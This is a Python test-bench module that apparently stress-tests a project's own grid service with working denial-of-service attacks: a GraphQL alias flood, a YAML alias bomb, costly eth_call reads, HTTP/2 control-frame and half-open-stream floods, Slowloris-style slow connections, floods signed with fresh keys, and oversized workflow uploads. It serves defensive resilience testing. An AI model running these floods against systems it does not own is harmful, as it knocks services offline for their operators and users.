"""The attacks in `./run bench strangers`.

Each attack is a process, `python -m tests.bench.stranger_attacks NAME TARGET`.

An attack prints `begun`, continues until its standard input ends, and prints its results.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import re
import secrets
import sys
import time
from collections import Counter
from collections.abc import Callable, Coroutine, Iterator
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
from eth_account import Account
from eth_account.signers.local import LocalAccount
from h2.config import H2Configuration
from h2.connection import H2Connection

from deepgrid.chain.book import AddressBook
from deepgrid.chain.node.contract import interface
from deepgrid.chain.node.values import coded_id
from deepgrid.chain.transactions.wallet import Wallet
from deepgrid.services.messages import Upload
from deepgrid.services.signing.request_signing import Domain, sign
from deepgrid.workflow import Definition, canonical, hash_definition

SLOW, PER_S, AT_ONCE, READS_AT_ONCE = 500, 100, 8, 150
FRAMES_BYTES_PER_S = 600_000
EXPENSIVE_STEPS = 200  # close to the limit for steps in containers
TYPES = "fragment F on __Schema { types { name fields { name args { name type { name } } } inputFields { name } } }"
ALIASES = TYPES + "{" + " ".join(f"a{n}: __schema {{ ...F }}" for n in range(150)) + "}"
NESTED = "\n".join(
    ["x-0: &a0 [x, x, x, x, x, x, x, x]"]
    + [f"x-{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 8)}]" for n in range(1, 8)]
    + ["resources: {tasks: 1, cpusPerTask: 1, memPerCpu: 1, gpus: 0}", "steps: []"]
)
READ = "/logger.v1alpha1.LoggerAPI/Read"


@dataclass(frozen=True)
class Target:
    """The attacked grid. Attacks come from the addresses `source`.1 and so on."""

    url: str
    grpc: str
    book: str
    key: str
    source: str

    @property
    def where(self) -> tuple[str, int]:
        parts = urlsplit(self.url)
        return str(parts.hostname), int(parts.port or 0)

    def domain(self) -> Domain:
        book = AddressBook.load(Path(self.book))
        return Domain(book.chain_id, book.meta_scheduler)

    def to_json(self) -> str:
        return json.dumps(asdict(self))


Attack = Callable[[Target, Counter[str]], Coroutine[Any, Any, None]]


def client_at(source: str) -> httpx.AsyncClient:
    """Return a client that sends from this address."""
    limits = httpx.Limits(max_connections=1000)
    transport = httpx.AsyncHTTPTransport(verify=False, local_address=source, limits=limits)
    return httpx.AsyncClient(transport=transport, timeout=30.0, trust_env=False)


async def upload(
    client: httpx.AsyncClient, url: str, domain: Domain, account: LocalAccount, steps: list[object]
) -> int:
    """Upload a definition with these steps. Returns the status of the answer."""
    resources = {"tasks": 1, "cpusPerTask": 1, "memPerCpu": 50, "gpus": 0}
    content = canonical(Definition.model_validate({"resources": resources, "steps": steps}))
    salt = secrets.token_bytes(32)
    path = f"/v1/definitions/{hash_definition(salt, content)}"
    body = Upload(salt=salt.hex(), definition=content.decode()).model_dump_json().encode()
    headers = sign(account, domain, "PUT", path, body, int(time.time()))
    return (await client.put(url + path, content=body, headers=headers)).status_code


async def _post(target: Target, met: Counter[str], path: str, body: bytes, at_once: int) -> None:
    """Post the same body without a pause, `at_once` times at the same time."""
    async with client_at(f"{target.source}.1") as client:

        async def one() -> None:
            headers = {"Content-Type": "application/json"}
            while True:
                try:
                    answer = await client.post(target.url + path, content=body, headers=headers)
                    met[str(answer.status_code)] += 1
                except httpx.HTTPError:
                    met["no answer"] += 1
                    await asyncio.sleep(0.1)

        await asyncio.gather(*(one() for _ in range(at_once)))


async def graphql_aliases(target: Target, met: Counter[str]) -> None:
    await _post(target, met, "/graphql", json.dumps({"query": ALIASES}).encode(), AT_ONCE)


async def yaml_aliases(target: Target, met: Counter[str]) -> None:
    await _post(target, met, "/v1/check", json.dumps({"file": NESTED}).encode(), AT_ONCE)


async def dear_reads(target: Target, met: Counter[str]) -> None:
    data = interface("MetaScheduler").encode("getMany", [coded_id(1)] * 1400)
    call = {"to": AddressBook.load(Path(target.book)).meta_scheduler, "data": data}
    body = {"jsonrpc": "2.0", "id": 1, "method": "eth_call", "params": [call, "latest"]}
    await _post(target, met, "/rpc", json.dumps(body).encode(), READS_AT_ONCE)


async def control_frames(target: Target, met: Counter[str]) -> None:
    """Send PING, SETTINGS, WINDOW_UPDATE and PRIORITY frames on one connection, and no request."""
    host, _, port = target.grpc.rpartition(":")
    while True:
        h2 = H2Connection(H2Configuration(client_side=True))
        h2.initiate_connection()
        ping = b"\0\0\x08\x06\0\0\0\0\0" + bytes(8)
        settings = b"\0\0\0\x04\0\0\0\0\0"
        window = b"\0\0\x04\x08\0\0\0\0\0\0\0\0\x01"
        priority = b"\0\0\x05\x02\0\0\0\0\x01\0\0\0\0\x10"
        piece = (ping + settings + window + priority) * 128
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection(host, int(port), local_addr=(f"{target.source}.1", 0))
            writer.write(h2.data_to_send())
            ended = asyncio.create_task(reader.read())
            while not ended.done():
                writer.write(piece)
                await writer.drain()
                await asyncio.sleep(len(piece) / FRAMES_BYTES_PER_S)
            writer.transport.abort()
        met["closed"] += 1
        await asyncio.sleep(0.1)


async def half_open_streams(target: Target, met: Counter[str]) -> None:
    """Open calls over gRPC on 20 connections, and never send their requests."""

    async def one(number: int) -> None:
        host, _, port = target.grpc.rpartition(":")
        while True:
            with contextlib.suppress(OSError):
                place = (f"{target.source}.{1 + number % 5}", 0)
                reader, writer = await asyncio.open_connection(host, int(port), local_addr=place)
                h2 = H2Connection(H2Configuration(client_side=True))
                h2.initiate_connection()
                for stream in range(1, 200, 2):
                    head = [(":method", "POST"), (":scheme", "http"), (":path", READ), (":authority", "x")]
                    h2.send_headers(stream, [*head, ("content-type", "application/grpc"), ("te", "trailers")])
                    met["streams"] += 1
                writer.write(h2.data_to_send())
                while await reader.read(65536):
                    pass
            met["closed"] += 1
            await asyncio.sleep(0.1)

    await asyncio.gather(*(one(number) for number in range(20)))


async def slow_connections(target: Target, met: Counter[str]) -> None:
    """Open connections, and send one byte of the head per second on each."""

    async def one(number: int) -> None:
        while True:
            with contextlib.suppress(OSError):
                place = (f"{target.source}.{1 + number % 5}", 0)
                _, writer = await asyncio.open_connection(*target.where, local_addr=place)
                writer.write(b"GET /v1/health HTTP/1.1\r\nHost: x\r\n")
                while not writer.is_closing():
                    writer.write(b"a")
                    await writer.drain()
                    await asyncio.sleep(1)
            met["closed"] += 1
            await asyncio.sleep(0.5)

    await asyncio.gather(*(one(number) for number in range(SLOW)))


async def expensive_definitions(target: Target, met: Counter[str]) -> None:
    account, domain = Wallet.load(Path(target.key)).account, target.domain()
    async with client_at(f"{target.source}.1") as client:

        async def one() -> None:
            while True:
                step = {"run": {"command": f"echo {secrets.token_hex(4)}", "container": {"image": "a"}}}
                try:
                    met[str(await upload(client, target.url, domain, account, [step] * EXPENSIVE_STEPS))] += 1
                except httpx.HTTPError:
                    met["no answer"] += 1

        await asyncio.gather(*(one() for _ in range(AT_ONCE)))


async def fresh_keys(target: Target, met: Counter[str]) -> None:
    """Send 100 requests per second, each signed with a new key."""
    requests, started, numbers = _signed_by_strangers(target), time.monotonic(), itertools.count()

    async def one(number: int) -> None:
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                place = (f"{target.source}.{1 + number % 5}", 0)
                reader, writer = await asyncio.open_connection(*target.where, local_addr=place)
                while True:
                    await asyncio.sleep(max(0.0, started + next(numbers) / PER_S - time.monotonic()))
                    writer.write(next(requests))
                    head = await reader.readuntil(b"\r\n\r\n")
                    length = re.search(rb"(?i)content-length: ([0-9]+)", head)
                    await reader.readexactly(int(length[1]) if length else 0)
                    met[head[9:12].decode()] += 1
            met["cut off"] += 1

    await asyncio.gather(*(one(number) for number in range(40)))


def _signed_by_strangers(target: Target) -> Iterator[bytes]:
    """Return requests of all kinds. 500 signed ones are used again, because signing costs the attacker more."""
    body = Upload(salt="00" * 32, definition="{}").model_dump_json().encode()
    kinds = [("PUT", f"/v1/definitions/{hash_definition(bytes(32), b'{}')}", body),
             ("POST", "/v1/jobs/1/log?offset=0", b"x" * 10_000), ("GET", "/v1/jobs/1/log?offset=0&wait=20", b""),
             ("GET", "/v1/jobs/1/notices", b"")]  # fmt: skip
    made, domain = [], target.domain()
    for method, path, content in itertools.islice(itertools.cycle(kinds), 500):
        headers = sign(Account.create(), domain, method, path, content, int(time.time()))
        lines = [f"{method} {path} HTTP/1.1", "Host: x", f"Content-Length: {len(content)}"]
        lines += [f"{name}: {value}" for name, value in headers.items()]
        made.append("\r\n".join(lines).encode() + b"\r\n\r\n" + content)
    return itertools.cycle(made)


ATTACKS: dict[str, Attack] = {
    attack.__name__.replace("_", " "): attack
    for attack in (
        graphql_aliases, control_frames, dear_reads, yaml_aliases, slow_connections, fresh_keys, expensive_definitions,
        half_open_streams,
    )
}  # fmt: skip


async def attack(name: str, target: Target) -> None:
    met: Counter[str] = Counter()
    running = asyncio.create_task(ATTACKS[name](target, met))
    print("begun", flush=True)
    await asyncio.to_thread(sys.stdin.read)
    running.cancel()
    await asyncio.gather(running, return_exceptions=True)
    print(json.dumps(met), flush=True)


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], Target(**json.loads(sys.argv[2]))))
